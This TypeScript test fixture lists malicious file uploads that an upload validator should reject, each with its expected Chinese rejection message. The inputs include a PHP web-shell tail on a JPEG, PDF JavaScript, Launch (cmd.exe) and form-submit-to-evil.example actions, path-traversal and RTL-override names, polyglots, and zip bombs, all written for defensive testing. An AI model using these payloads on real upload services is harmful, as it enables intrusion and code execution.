import { deflateRawSync } from 'node:zlib'
import type { UploadPurpose } from '#src/model/file/rules.ts'
import { zip } from '#src/mock/files/zip.ts'
import {
  docxFile,
  joinBytes,
  jpg,
  pdf,
  pdfOf,
  pdfPacked,
  pdfStream,
  png,
  pngChunk,
  textBytes,
} from '#tests/support/files.ts'
import { archiveOf, fields, nameField, type Part } from './archives.ts'

export type Hostile = {
  what: string
  name: string
  bytes: Uint8Array<ArrayBuffer>
  type?: string
  purpose?: UploadPurpose
  /** Part of the refusing rule. */
  rule: string
}

const archive = (name: string) => zip([[name, 'x']])
const [bomb, small] = [deflateRawSync(Buffer.alloc(1_000_000)), deflateRawSync('x')]
const material = 'material' as const
const kinds = '只能上传'
const signs = '文件名不能含有'
const program = '文件名中含有程序'
const active = '可执行的内容'
const content = '不能有程序、宏、链接或加密'
const broken = '不完整'
const renamed = '内容是程序或网页'
const hidden = '还藏有压缩包'
const twins = '同名的文件'
const named = '含有冒号、不可见字符，或为系统的设备名'
const device = '不能是系统的设备名'

/** An archive with one file of this name. */
const holding = (what: string, entry: string, rule: string): Hostile => ({
  what: `archive with ${what}: ${entry}`,
  name: '材料.zip',
  bytes: archive(entry),
  purpose: material,
  rule,
})

const written = (what: string, part: Part, rule: string): Hostile => ({
  what: `archive with ${what}`,
  name: '材料.zip',
  bytes: archiveOf([part]),
  purpose: material,
  rule,
})

const document = (what: string, bytes: Uint8Array<ArrayBuffer>, rule: string): Hostile => ({
  what: `pdf with ${what}`,
  name: '材料.pdf',
  bytes,
  purpose: material,
  rule,
})

const names: Hostile[] = [
  { what: 'a path', name: '../证件.png', bytes: png(), rule: signs },
  { what: 'a path of Windows', name: String.raw`..\证件.png`, bytes: png(), rule: signs },
  { what: 'NUL', name: '证件.png\0.jpg', bytes: png(), rule: signs },
  { what: 'RTL override', name: '证\u202Egnp.exe.png', bytes: png(), rule: signs },
  { what: 'zero width', name: '证\u200B件.png', bytes: png(), rule: signs },
  { what: 'emoji', name: '证件😀.png', bytes: png(), rule: signs },
  { what: 'a pipe', name: '证|件.png', bytes: png(), rule: signs },
  { what: 'a colon (stream of NTFS)', name: '证件.png:x.png', bytes: png(), rule: signs },
  { what: 'a line break', name: '证件\r\nX: y.png', bytes: png(), rule: signs },
  { what: '255 letters', name: `${'a'.repeat(251)}.png`, bytes: png(), rule: '100 个字符' },
  { what: 'a hidden file', name: '.htaccess.png', bytes: png(), rule: '正确的后缀' },
  { what: 'no extension', name: '证件', bytes: png(), rule: '正确的后缀' },
  { what: 'an extension with a trailing dot', name: '证件.png.', bytes: png(), rule: '正确的后缀' },
  { what: 'a device', name: 'con.png', bytes: png(), rule: device },
  { what: 'a device with a space', name: 'LPT1 .x.png', bytes: png(), rule: device },
  { what: 'double extension php', name: '证件.php.png', bytes: png(), rule: program },
  { what: 'double extension exe', name: '证件.png.exe', bytes: png(), rule: program },
  { what: 'double extension with a space', name: '证件.html .png', bytes: png(), rule: program },
]

const kindsOfFile: Hostile[] = [
  { what: 'a shortcut of DOS', name: '证件.pif', bytes: textBytes('MZ'), rule: program },
  { what: 'a help file that runs scripts', name: '证件.png.chm', bytes: textBytes('ITSF'), rule: program },
  { what: 'a console of Windows', name: '证件.msc', bytes: textBytes('<?xml'), rule: program },
  { what: 'a disk called pdf', name: '证件.iso.pdf', bytes: pdf(), rule: program },
  { what: 'a virtual disk', name: '证件.vhdx', bytes: textBytes('vhdxfile'), rule: program },
  { what: 'a saved page', name: '证件.mht.png', bytes: png(), rule: program },
  { what: 'a spreadsheet with macros', name: '证件.xlsb.png', bytes: png(), rule: program },
  { what: 'a command of macOS', name: '证件.command.png', bytes: png(), rule: program },
  { what: 'a starter of Linux', name: '证件.desktop.png', bytes: png(), rule: program },
  { what: 'a folder that fetches', name: '证件.library-ms.png', bytes: png(), rule: program },
  { what: 'a setting that runs', name: '证件.settingcontent-ms.png', bytes: png(), rule: program },
  { what: 'a plain settings file', name: '证件.settingcontent-ms', bytes: textBytes('<a/>'), rule: '正确的后缀' },
  { what: 'a kind that is not accepted', name: '证件.gif', bytes: png(), rule: kinds },
  { what: 'svg with a script', name: '证件.svg', bytes: textBytes('<svg onload="alert(1)"/>'), rule: program },
  { what: 'svg called png', name: '证件.png', bytes: textBytes('<svg><script>1</script></svg>'), rule: renamed },
  { what: 'html called jpg', name: '证件.jpg', bytes: textBytes('<!doctype html><script>1</script>'), rule: renamed },
  { what: 'gif and script at once', name: '证件.jpg', bytes: textBytes('GIF89a/*x*/=1;alert(1)'), rule: kinds },
  { what: 'a program', name: '证件.png', bytes: textBytes('MZ\x90\0\x03'), rule: renamed },
  { what: 'png called jpg', name: '证件.jpg', bytes: png(), rule: '内容与后缀不符' },
  { what: 'pdf where pictures are wanted', name: '证件.pdf', bytes: pdf(), rule: kinds },
  { what: 'docx where it is not wanted', name: '材料.docx', bytes: docxFile(), purpose: material, rule: kinds },
  { what: 'docx called zip', name: '材料.zip', bytes: docxFile(), purpose: material, rule: kinds },
  { what: 'html as its type', name: '证件.png', bytes: png(), type: 'text/html', rule: '声明的类型不符' },
  { what: 'svg as its type', name: '证件.png', bytes: png(), type: 'image/svg+xml', rule: '声明的类型不符' },
]

const contents: Hostile[] = [
  { what: 'nothing', name: '证件.png', bytes: new Uint8Array(), rule: '文件是空的' },
  { what: 'one byte', name: '证件.png', bytes: Uint8Array.from([0x89]), rule: kinds },
  {
    what: 'one byte too many',
    name: '证件.jpg',
    bytes: joinBytes(jpg(), new Uint8Array(5_242_881 - jpg().length)),
    rule: '不能超过 5 MB',
  },
  { what: 'a picture cut off', name: '证件.png', bytes: png().slice(0, 40), rule: broken },
  { what: 'a jpg without an end', name: '证件.jpg', bytes: jpg().slice(0, -2), rule: broken },
  { what: '30,000 × 30,000', name: '证件.png', bytes: png(30_000, 30_000), rule: '4000 万像素' },
  { what: 'a jpg of 65,000 × 1,000', name: '证件.jpg', bytes: jpg(65_000, 1000), rule: '4000 万像素' },
  { what: 'no width', name: '证件.png', bytes: png(0, 10), rule: broken },
  {
    what: 'jpg with a php tail',
    name: '证件.jpg',
    bytes: joinBytes(jpg(), textBytes('<?php system($_GET[0]);')),
    rule: active,
  },
  {
    what: 'png with a script in its comment',
    name: '证件.png',
    bytes: png(1, 1, pngChunk('tEXt', textBytes('x\0<SCRIPT>1</SCRIPT>'))),
    rule: active,
  },
  {
    what: 'pdf with an action',
    name: '材料.pdf',
    bytes: pdf('2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'),
    purpose: material,
    rule: active,
  },
  {
    what: 'pdf with a disguised action',
    name: '材料.pdf',
    bytes: pdf('2 0 obj<</S/J#61vaScript/JS(1)>>endobj'),
    purpose: material,
    rule: active,
  },
  {
    what: 'pdf that starts a program',
    name: '材料.pdf',
    bytes: pdf('<</S/Launch/F(cmd.exe)>>'),
    purpose: material,
    rule: active,
  },
  {
    what: 'pdf with files in it',
    name: '材料.pdf',
    bytes: pdf('<</Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>>>5 0 obj<</F(a.exe)/EF<</F 6 0 R>>>>endobj'),
    purpose: material,
    rule: '附带了其他文件',
  },
  {
    what: 'pdf with files in it, disguised',
    name: '材料.pdf',
    bytes: pdf('<</Names<</Embedded#46ile#73<</Names[(a)5 0 R]>>>>>>5 0 obj<</F(a.exe)/E#46<</F 6 0 R>>>>endobj'),
    purpose: material,
    rule: '附带了其他文件',
  },
  {
    what: 'html before a pdf',
    name: '材料.pdf',
    bytes: joinBytes(textBytes('<html>'), pdf()),
    purpose: material,
    rule: renamed,
  },
  {
    what: 'archive with a path traversal',
    name: '材料.zip',
    bytes: archive('../../etc/passwd'),
    purpose: material,
    rule: '路径不合规',
  },
  {
    what: 'archive with a root',
    name: '材料.zip',
    bytes: archive('/etc/passwd'),
    purpose: material,
    rule: '路径不合规',
  },
  {
    what: 'archive with a program',
    name: '材料.zip',
    bytes: archive('说明.exe'),
    purpose: material,
    rule: content,
  },
  {
    what: 'archive with a page',
    name: '材料.zip',
    bytes: archive('a/index.html'),
    purpose: material,
    rule: content,
  },
  {
    what: 'archive bomb',
    name: '材料.zip',
    bytes: archiveOf([{ name: 'a.txt', method: 8, unpacked: 4_000_000_000 }]),
    purpose: material,
    rule: '解压后过大',
  },
  {
    what: 'archive of overlapping parts',
    name: '材料.zip',
    bytes: archiveOf([{ name: 'a.txt' }, { name: 'a.txt', at: 0 }]),
    purpose: material,
    rule: broken,
  },
  {
    what: 'zip64',
    name: '材料.zip',
    bytes: archiveOf([{ name: 'a.txt', unpacked: 0xffffffff }]),
    purpose: material,
    rule: broken,
  },
  {
    what: 'archive with a tail',
    name: '材料.zip',
    bytes: joinBytes(archive('a.txt'), textBytes('<script>')),
    purpose: material,
    rule: broken,
  },
  written('a name that differs in the local header', { name: '说明.txt', own: { name: '说明.exe' } }, broken),
  written(
    'two second names',
    { name: '说明.txt', extra: joinBytes(nameField('说明.exe'), nameField('说明.txt')) },
    broken,
  ),
  written('a link in an extra field', { name: '说明.txt', ownExtra: fields([2, 0x6c78], [2, 4], [4, 0xa1ff]) }, broken),
  written(
    'a file that unpacks to more than declared',
    { name: '说明.txt', method: 8, content: bomb, packed: bomb.length },
    broken,
  ),
  written(
    'a file with another one after it',
    {
      name: '说明.txt',
      method: 8,
      content: joinBytes(small, archive('a.exe')),
      packed: small.length + archive('a.exe').length,
    },
    broken,
  ),
  written('a second name that is a program', { name: '说明.txt', extra: nameField('说明.exe') }, content),
  written('a second name with a path traversal', { name: '说明.txt', extra: nameField('../说明.txt') }, '路径不合规'),
  written('a second name that is an archive', { name: '说明.txt', extra: nameField('说明.zip') }, '压缩包内还有压缩包'),
  written('a link', { name: '说明.txt', body: '/etc/passwd', attributes: 0xa1ff0000 }, content),
  written('a link of Windows', { name: '说明.txt', attributes: 0x420 }, content),
  written('an encrypted file', { name: '说明.txt', flags: 1 }, content),
  document('a program in its packed objects', pdfOf(pdfPacked('<</S/JavaScript/JS(1)>>')), active),
  document(
    'a program in objects whose packing has two names',
    pdfOf(pdfPacked('<</S/JavaScript/JS(1)>>', '/N 1/First 4/F/FlateDecode')),
    '无法检查',
  ),
  document('a form that sends', pdf('2 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'), active),
  document('another document that it opens', pdf('2 0 obj<</S/GoToR/F(b.pdf)>>endobj'), active),
  document('a form that is a program', pdf('2 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj'), active),
  document('objects that cannot be read', pdfOf(pdfPacked('<<>>', '/First 4/Filter/LZWDecode')), '无法检查'),
]

const packed = zip([['说明.txt', 'x']])
const polyglots: Hostile[] = [
  document('a page behind it', joinBytes(pdf(), textBytes('<html><body>x</body></html>\n%%EOF')), active),
  document('a page in a comment', pdf('%<!DOCTYPE html>\n'), active),
  document('a script in a link', pdf('2 0 obj<</S/URI/URI(javascript:alert\\(1\\))>>endobj'), active),
  document('an archive behind it', joinBytes(pdf(), packed, textBytes('\n%%EOF')), hidden),
  document('an archive in it', pdfOf(pdfStream(7, '', packed)), hidden),
  document('an archive of another kind in it', pdfOf(pdfStream(7, '', textBytes('Rar!\u001A\u0007'))), hidden),
  { what: 'png with an archive behind it', name: '证件.png', bytes: joinBytes(png(), packed), rule: hidden },
  {
    what: 'png with an archive in a chunk',
    name: '证件.png',
    bytes: png(1, 1, pngChunk('zzZz', packed)),
    rule: hidden,
  },
  { what: 'jpg with an archive behind it', name: '证件.jpg', bytes: joinBytes(jpg(), packed, jpg()), rule: hidden },
  {
    what: 'png that is a document',
    name: '证件.png',
    bytes: png(1, 1, pngChunk('tEXt', textBytes('%PDF-1.7'))),
    rule: hidden,
  },
]

const renamedPrograms: Hostile[] = [
  ['Linux', '\u007FELF\u0002'],
  ['Java', '\u00CA\u00FE\u00BA\u00BE'],
  ['Android', 'dex\n035'],
  ['the web', '\0asm'],
  ['a shell', '#!/bin/sh'],
  ['Windows: a shortcut', 'L\0\0\0\u0001\u0014\u0002\0'],
  ['a server', '<?php phpinfo();'],
  ['a browser', '\n <!-- x --><html>'],
].map(([what, text = '']) => ({
  what: `a program of ${what} called pdf`,
  name: '材料.pdf',
  bytes: Uint8Array.from(text, (sign) => sign.charCodeAt(0)),
  purpose: material,
  rule: renamed,
}))

const several = (what: string, parts: Part[], rule: string): Hostile => ({
  what: `archive with ${what}`,
  name: '材料.zip',
  bytes: archiveOf(parts),
  purpose: material,
  rule,
})
const left = archiveOf([{ name: '藏.txt' }])
const tellings: Hostile[] = [
  several('two with equal names', [{ name: '说明.txt' }, { name: '说明.txt' }], twins),
  several('two names equal except for case', [{ name: 'a/B.txt' }, { name: 'A/b.TXT' }], twins),
  several('two names equal on Windows', [{ name: 'a.txt' }, { name: 'a.txt. ' }], twins),
  several(
    'a second name that another file has',
    [{ name: 'a.txt' }, { name: '_.txt', extra: nameField('a.txt') }],
    twins,
  ),
  several('a second name that is another', [{ name: 'a.txt', extra: nameField('b.txt') }], twins),
  several(
    'a file missing from the directory',
    [{ name: 'a.txt', behind: left.slice(0, 30 + textBytes('藏.txt').length + 1) }],
    broken,
  ),
  several('a file encrypted by its local header only', [{ name: 'a.txt', own: { flags: 1 } }], broken),
  several('a size that differs in the local header', [{ name: 'a.txt', own: { unpacked: 4_000_000 } }], broken),
  several(
    'different sizes after the content',
    [{ name: 'a.txt', flags: 8, behind: fields([4, 0x08074b50], [4, 0x8cdc1683], [4, 1], [4, 4_000_000]) }],
    broken,
  ),
  ...['CON.txt', 'nul', 'a/COM1.pdf', 'aux/b.txt', 'LPT9 .x.txt'].map((name) => holding('a device', name, named)),
  ...['a\u202Etxt.exe.pdf', 'a\u200B.txt', 'a.txt:b.txt', 'a\r\n.txt'].map((name) =>
    holding('a name that hides something', name, named),
  ),
]

const programs = ['a.exe.', 'a.exe ', 'a.exe. .', 'a.ps1\u00A0', 'a.pif', 'a.chm', 'a.msc', 'a.iso', 'a.LNK', 'a.scr']
const moreOfThem = ['a.hta', 'a.img', 'a.vhd', 'a.vhdx', 'a.url', 'a.xll', 'a.pptm', 'dir/a.js .']
const noFileOfTheirs = [
  'a.library-ms',
  'a.mht',
  'a.xlsb',
  'a.command',
  'a.desktop',
  'a.settingcontent-ms',
  'a.xml',
  'run',
]
const nested = ['a.zip', 'b/内层.ZIP', 'a.rar', 'a.7z', 'a.tar.gz', 'a.tgz', 'a.cab', 'a.zip.', 'a.part.r01', 'a.z01']

const entries: Hostile[] = [
  ...[...programs, ...moreOfThem, ...noFileOfTheirs].map((entry) => holding('a program', entry, content)),
  ...nested.map((entry) => holding('an archive', entry, '压缩包内还有压缩包')),
  ...['a/.. /b.txt', '... /b.txt', 'a/. ./b.txt'].map((entry) => holding('a path traversal', entry, '路径不合规')),
]

/** Files that are malicious, not accidental (quality A5). */
export const hostileFiles: readonly Hostile[] = [
  ...names,
  ...kindsOfFile,
  ...contents,
  ...polyglots,
  ...renamedPrograms,
  ...tellings,
  ...entries,
]
